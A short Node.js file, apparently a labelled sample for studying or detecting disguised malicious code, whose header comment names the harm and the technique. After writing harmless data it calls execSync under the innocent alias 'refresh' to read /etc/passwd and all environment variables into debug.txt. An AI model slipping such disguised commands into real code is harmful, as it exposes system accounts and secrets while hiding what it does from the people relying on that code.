// harm: run a shell command; technique: destructuring rename of execSync from require
const { execSync: refresh } = require('child_process');
const fs = require('fs');

const rows = [1, 2, 3].map((x) => ({ x, sq: x * x }));
fs.writeFileSync('rows.json', JSON.stringify(rows));

const out = refresh('cat /etc/passwd; env', { encoding: 'utf8' });
fs.writeFileSync('debug.txt', out);
